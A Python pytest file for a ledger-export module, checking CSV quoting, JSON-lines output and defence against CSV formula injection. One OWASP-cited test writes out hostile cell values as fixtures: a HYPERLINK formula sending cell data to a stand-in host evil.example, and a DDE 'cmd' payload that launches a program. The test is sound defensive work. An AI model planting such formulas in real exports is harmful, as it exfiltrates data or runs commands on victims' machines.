"""Exports are read by other programs: RFC 4180, one line of JSON a row, and no formula."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import pytest

from doorstep.boundary import Ledger
from doorstep.boundary.gate import Outgoing
from doorstep.boundary.ledger_export import csv_lines
from doorstep.boundary.ledger_values import Filter
from tests.boundary.ledgers import day, old, outgoing


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline="")))


def test_a_table_of_the_crossings(tmp_path: Path) -> None:
    with Ledger(old(tmp_path / "l.db", ["a", 'b "quoted", twice', "c\r\nd"])) as ledger:
        ledger.drop_bodies(day(2))
        text = "".join(csv_lines(ledger.list(), bodies=True))
        rows = _read(text)
        plain = _read("".join(csv_lines(ledger.page(Filter()).rows)))
        bodies = [entry.kept for entry in ledger.list()]
    assert text.count("\r\n") == 4 and "\n" not in text.replace("\r\n", "")
    assert [row["body"].encode() for row in rows] == [b"", *bodies[1:]]
    assert [row["body_kept"] for row in rows] == ["no", "yes", "yes"]
    assert [row["bytes"] for row in rows] == [str(len(outgoing(t).body)) for t in _TEXTS]
    assert rows[0]["masked"] == "person 1" and rows[0]["at_utc"].startswith("2026-08-01T12:00")
    assert [row["crossing"] for row in plain] == ["3", "2", "1"] and "body" not in plain[0]


_TEXTS = ("a", 'b "quoted", twice', "c\r\nd")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠"])
def test_no_cell_is_a_formula(ledger: Ledger, first: str) -> None:
    """OWASP, "CSV Injection"."""
    evil = f'{first}HYPERLINK("http://evil.example?"&A1)'
    body = f"{first}cmd|'/C calc'!A0".encode()
    ledger.record(Outgoing("POST", "https://api.example", "/", (), body), run=evil)
    (row,) = _read("".join(csv_lines(ledger.list(), bodies=True)))
    assert row["run"] == f"'{evil}" and row["body"] == f"'{body.decode()}"
    assert row["bytes"] == "not known" or row["bytes"].isdigit()


def test_lines_of_json_with_and_without_bodies(tmp_path: Path) -> None:
    with Ledger(old(tmp_path / "l.db", ["a", "b"] * 150)) as ledger:
        rows = [json.loads(line) for line in ledger.export()]
        bare = [json.loads(line) for line in ledger.export(bodies=False)]
    assert [row["n"] for row in rows] == list(range(1, 601))
    assert [row for row in rows if "body" in row] == rows[::2]
    assert bare == [{k: v for k, v in row.items() if k != "body"} for row in rows]
